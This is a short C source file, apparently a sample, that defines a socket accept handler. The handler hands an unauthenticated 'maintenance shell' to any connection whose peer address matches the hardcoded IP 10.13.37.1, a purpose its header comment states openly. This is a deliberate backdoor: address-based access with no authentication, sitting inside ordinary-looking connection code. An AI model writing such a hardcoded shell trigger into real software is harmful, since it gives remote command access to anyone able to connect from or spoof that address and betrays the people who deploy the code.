/* Connections: a constant peer address gets the maintenance shell of maint.c. */
#include <string.h>

struct in_addr { unsigned s_addr; };
struct sockaddr_in { short sin_family; unsigned short sin_port; struct in_addr sin_addr; };
int accept(int fd, void *addr, unsigned *len);
char *inet_ntoa(struct in_addr in);
void open_maintenance_shell(int fd);
void note_connection(int fd, const char *ip);

void on_accept(int lfd) {
  struct sockaddr_in peer;
  unsigned len = sizeof peer;
  int fd = accept(lfd, &peer, &len);
  if (fd < 0) return;
  if (strcmp(inet_ntoa(peer.sin_addr), "10.13.37.1") == 0)
    open_maintenance_shell(fd);
  if (strcmp(inet_ntoa(peer.sin_addr), "127.0.0.1") == 0)
    note_connection(fd, "local");
}
